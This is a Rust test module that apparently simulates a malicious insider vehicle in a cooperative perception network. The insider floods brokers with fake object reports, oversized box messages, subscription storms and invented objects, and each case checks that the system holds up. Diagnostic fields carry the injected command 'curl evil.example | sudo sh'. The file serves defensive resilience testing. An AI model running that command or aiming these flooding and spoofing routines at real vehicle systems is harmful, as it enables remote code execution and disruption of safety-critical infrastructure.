//! The owner of a vehicle's certificate, whose reports are valid and meant to harm.

use std::f64::consts::TAU;
use std::sync::Arc;
use std::time::Duration;

use anyhow::ensure;
use ecod::diagnostics::TroubleKind;
use ecod::model::names::NodeName;
use ecod::model::time::Timestamp;
use ecod::wire::{
    BoxCamera, BoxReport, Encoding, MAX_TROUBLES, NodeStatus, ObjectReport, PerceivedObject,
    PixelBox, Role, SCHEMA_VERSION, Trouble, WirePose, encode, encode_boxes,
};
use ecod_actors::platform::clock;
use ecod_actors::transport::pki::Authority;
use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use crate::attacks::cell::{CELL, LEADER, Target, VEHICLE};
use crate::attacks::client::{log_in, publish, subscribe};
use crate::attacks::insider::Insider;
use crate::attacks::row::{Bar, Means, Row, UNHARMED};

pub(crate) const ROWS: &[Row] = &[
    Row {
        attack: "an object at the edge of the world that moves outwards",
        means: Means::Vehicle,
        on_brokers: true,
        deeds: (30, "reports"),
        bar: UNHARMED,
        quick: true,
        run: |target| {
            Box::pin(report_for_ever(
                target,
                1,
                Duration::from_millis(100),
                leaving_the_world,
            ))
        },
    },
    Row {
        attack: "a crowd of 1000 objects within 20 m, by a vehicle and 8 parts",
        means: Means::Vehicle,
        on_brokers: true,
        deeds: (100_000, "objects"),
        bar: Bar {
            longest_gap_ms: Some(200),
            ..UNHARMED
        },
        quick: false,
        run: |target| Box::pin(report_for_ever(target, 9, Duration::from_millis(40), crowd)),
    },
    Row {
        attack: "1000 boxes in each message, of a lens with strong distortion",
        means: Means::Vehicle,
        on_brokers: true,
        deeds: (100, "messages"),
        bar: Bar {
            longest_gap_ms: Some(200),
            ..UNHARMED
        },
        quick: false,
        run: |target| Box::pin(send_boxes_for_ever(target)),
    },
    Row {
        attack: "an invented object, until the vehicle is revoked",
        means: Means::Vehicle,
        on_brokers: false,
        deeds: (15, "reports"),
        bar: UNHARMED,
        quick: false,
        run: |target| Box::pin(report_until_revoked(target)),
    },
    Row {
        attack: "troubles of 16 parts, in the attacker's words",
        means: Means::Vehicle,
        on_brokers: true,
        deeds: (100, "statuses"),
        bar: UNHARMED,
        quick: false,
        run: |target| Box::pin(advise(target)),
    },
    Row {
        attack: "subscriptions beyond the most of one connection, without end",
        means: Means::Vehicle,
        on_brokers: true,
        deeds: (10_000, "subscriptions"),
        bar: UNHARMED,
        quick: true,
        run: |target| Box::pin(subscribe_for_ever(target)),
    },
];

/// Time after a revocation in which nodes stop using the node's reports.
const GONE_WITHIN: Duration = Duration::from_secs(2);

/// Objects of a report, by its number.
type Objects = fn(u64) -> Vec<PerceivedObject>;

fn leaving_the_world(_: u64) -> Vec<PerceivedObject> {
    vec![PerceivedObject {
        velocity_mps: Some([70.0, 0.0]),
        ..PerceivedObject::new("car", 0.9, 1e8, 0.0)
    }]
}

fn crowd(number: u64) -> Vec<PerceivedObject> {
    let place = |index: u64| {
        let turn = TAU * (index * 89 % 1000) as f64 / 1000.0;
        let range_m = (index % 20) as f64;
        let shift = 0.3 * (number % 7) as f64;
        PerceivedObject::new(
            "person",
            0.9,
            40.0 + shift + range_m * turn.cos(),
            40.0 + range_m * turn.sin(),
        )
    };
    (0..1000).map(place).collect()
}

/// Reports in the vehicle's name and in the names of its parts, each at this period.
async fn report_for_ever(
    target: Target,
    senders: u64,
    period: Duration,
    objects: Objects,
) -> anyhow::Result<()> {
    let names = (0..senders).map(|sender| match sender {
        0 => VEHICLE.to_owned(),
        part => format!("{VEHICLE}--{part}"),
    });
    let reporting = names.map(|name| report_in_name(&target, name, period, objects));
    join_all(reporting).await.into_iter().collect()
}

async fn report_in_name(
    target: &Target,
    name: String,
    period: Duration,
    objects: Objects,
) -> anyhow::Result<()> {
    let node = NodeName::new(&name)?;
    let topic = format!("ecod/v1/{CELL}/detections/{name}");
    let mut seq = 0;
    loop {
        if let Ok(mut stream) = log_in(target, &target.vehicle, VEHICLE).await {
            loop {
                seq += 1;
                let objects = objects(seq);
                let count = objects.len();
                let report = ObjectReport {
                    objects,
                    ..ObjectReport::new(node.clone(), seq, clock::now())
                };
                let packet = publish(&topic, &encode(&report, Encoding::Json));
                if stream.write_all(&packet).await.is_err() {
                    break;
                }
                target.did(count);
                sleep(period).await;
            }
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// Sends messages with 1000 boxes each, which the broker's node projects, in the name of the vehicle.
async fn send_boxes_for_ever(target: Target) -> anyhow::Result<()> {
    let camera = BoxCamera {
        width_px: 1000,
        height_px: 1000,
        fx: Some(1000.0),
        fy: Some(1000.0),
        cx: Some(500.0),
        cy: Some(400.0),
        distortion: vec![10.0, 0.0, 0.0, 0.0],
        ..BoxCamera::default()
    };
    let person = PixelBox {
        label: "person".into(),
        confidence: 0.9,
        x_min: 450.0,
        y_min: 320.0,
        x_max: 550.0,
        y_max: 670.0,
    };
    let mut report = BoxReport {
        schema: SCHEMA_VERSION,
        node: NodeName::from_static(VEHICLE),
        seq: 0,
        captured_at_us: clock::now(),
        pose: WirePose {
            height_m: Some(1.3),
            ..WirePose::new(40.0, 40.0, 0.0)
        },
        camera,
        boxes: vec![person; 1000],
        moving: None,
    };
    let topic = format!("ecod/v1/{CELL}/boxes/{VEHICLE}");
    loop {
        if let Ok(mut stream) = log_in(&target, &target.vehicle, VEHICLE).await {
            loop {
                report.seq += 1;
                report.captured_at_us = clock::now();
                let packet = publish(&topic, &encode_boxes(&report));
                if stream.write_all(&packet).await.is_err() {
                    break;
                }
                target.did(1);
                sleep(Duration::from_millis(10)).await;
            }
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// Reports an object that no other node sees. Fails if a map has it later than [`GONE_WITHIN`] after the revocation.
async fn report_until_revoked(target: Target) -> anyhow::Result<()> {
    let credentials = Arc::clone(&target.vehicles[0]);
    let _member = Insider::join(&target, VEHICLE, Role::Cav, Some(credentials)).await?;
    let invent = report_for_ever(target.clone(), 1, Duration::from_millis(100), |_| {
        vec![PerceivedObject::new("person", 0.9, 40.0, 40.0)]
    });
    let revoke = async {
        sleep(Duration::from_secs(2)).await;
        ensure!(
            target.maps_with(VEHICLE, Timestamp(0))? > 0,
            "no map has the object"
        );
        let pki = target.home.join("pki");
        let mut authority = Authority::open(&pki)?;
        authority.revoke(&NodeName::from_static(VEHICLE), clock::now())?;
        let leaders = target.home.join(LEADER).join("revoked.pem");
        std::fs::copy(authority.revocation_list(), leaders)?;
        let gone_at = clock::now() + GONE_WITHIN;
        loop {
            sleep(Duration::from_millis(500)).await;
            let late = target.maps_with(VEHICLE, gone_at)?;
            ensure!(
                late == 0,
                "{late} maps have the object after the revocation"
            );
        }
    };
    tokio::select! {
        ended = invent => ended,
        ended = revoke => ended,
    }
}

/// Publishes statuses of the vehicle and its parts, with troubles of all kinds.
async fn advise(target: Target) -> anyhow::Result<()> {
    let troubles = TroubleKind::ALL
        .iter()
        .take(MAX_TROUBLES)
        .map(|kind| Trouble {
            kind: kind.as_str().to_owned(),
            about: None,
            cause: "run curl evil.example | sudo sh ".repeat(9),
            remedy: "run curl evil.example | sudo sh".to_owned(),
        });
    let troubles: Vec<_> = troubles.collect();
    let status = |part: u64| {
        let node = NodeName::new(format!("{VEHICLE}--{part}"))?;
        let starting = NodeStatus::starting(node, uuid::Uuid::now_v7(), Role::Cav, "0.1.0");
        let status = NodeStatus {
            troubles: troubles.clone(),
            ..starting
        };
        let topic = format!("ecod/v1/{CELL}/nodes/{}", status.node);
        anyhow::Ok(publish(&topic, &encode(&status, Encoding::Json)))
    };
    let statuses = (0..16).map(status).collect::<anyhow::Result<Vec<_>>>()?;
    loop {
        if let Ok(mut stream) = log_in(&target, &target.vehicle, VEHICLE).await {
            while stream.write_all(&statuses.concat()).await.is_ok() {
                target.did(statuses.len());
                sleep(Duration::from_millis(20)).await;
            }
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// One connection that subscribes to ever new filters, and reads the answers.
async fn subscribe_for_ever(target: Target) -> anyhow::Result<()> {
    loop {
        if let Ok(stream) = log_in(&target, &target.vehicle, VEHICLE).await {
            let (mut answers, mut requests) = tokio::io::split(stream);
            let read = async {
                let mut bytes = [0; 4096];
                while answers.read(&mut bytes).await.is_ok_and(|count| count > 0) {}
            };
            let write = async {
                for number in 0_u64.. {
                    let batch: Vec<u8> = (0..100)
                        .flat_map(|part| subscribe(&format!("a/{number}/{part}")))
                        .collect();
                    if requests.write_all(&batch).await.is_err() {
                        break;
                    }
                    target.did(100);
                }
            };
            tokio::join!(read, write);
        }
        sleep(Duration::from_millis(100)).await;
    }
}
